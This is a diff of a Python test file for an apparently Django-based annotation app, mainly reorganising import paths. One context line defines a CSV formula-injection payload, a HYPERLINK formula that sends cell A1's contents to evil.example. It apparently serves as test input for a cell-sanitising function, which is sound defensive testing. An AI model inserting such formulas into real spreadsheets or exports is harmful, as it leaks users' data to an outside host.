@@ -12,8 +12,11 @@ import json
 import pytest
 from django.contrib.auth import get_user_model
 
-from annotate.csvsafe import safe_cell
-from annotate.services import add_member, import_bundle, import_labels, open_labelling
+from annotate.common.csvsafe import safe_cell
+from annotate.imports.bundle_import import import_bundle
+from annotate.imports.label_import import import_labels
+from annotate.members.services import add_member
+from annotate.projects.opening import open_labelling
 from tests.conftest import FIXTURES, PASSWORD
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
